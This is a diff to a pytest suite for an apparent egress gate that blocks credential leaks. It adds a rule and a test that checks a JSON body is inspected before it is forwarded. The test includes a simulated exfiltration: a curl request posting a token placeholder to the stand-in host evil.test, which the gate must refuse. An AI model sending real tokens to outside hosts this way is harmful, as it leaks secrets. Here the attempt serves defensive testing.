@@ -47,6 +47,11 @@ rules:
   - name: plain
     hosts: [allowed.test]
     ports: [80]
+  - name: held-body
+    hosts: [evil.test]
+    ports: [{other}]
+    methods: [POST]
+    json_body: {{operation: download}}
 """
 
 
@@ -93,7 +98,7 @@ class ChunkyEcho(LoopbackServer):
 @pytest.fixture(scope="module")
 def dns() -> Iterator[FakeDns]:
     with FakeDns() as server:
-        for name in ("allowed.test", "other.test"):
+        for name in ("allowed.test", "other.test", "evil.test"):
             server.set(name, "A", ["127.0.0.1"])
         yield server
 
@@ -356,3 +361,17 @@ def test_no_decision_ever_holds_the_real_value(setup: Setup) -> None:
         assert GITHUB_TOKEN not in json.dumps(asdict(decision), default=str)
     refused = [d for d in setup.gate.memory.decisions if d.decision is Verdict.DENY]
     assert refused  # the tests above refused some
+
+
+def test_a_body_held_for_a_rule_is_searched_before_anything_is_sent(
+    setup: Setup, other: EchoUpstream
+) -> None:
+    url = f"https://evil.test:{setup.ports['other']}/batch"
+    clean = setup.curl(url, "--json", json.dumps({"operation": "download"}))
+    assert clean.status == 200 and len(other.requests) == 1  # the held path lets a clean body on
+    leak = {"operation": "download", "token": setup.placeholder}
+    result = setup.curl(url, "--json", json.dumps(leak))
+    assert result.status == 403 and result.headers["x-egress-reason"] == "credential-misuse"
+    assert len(other.requests) == 1 and setup.placeholder.encode() not in b"".join(other.bodies)
+    decision = _last_misuse(setup)
+    assert decision.rule == "held-body" and "not evil.test" in (decision.detail or "")
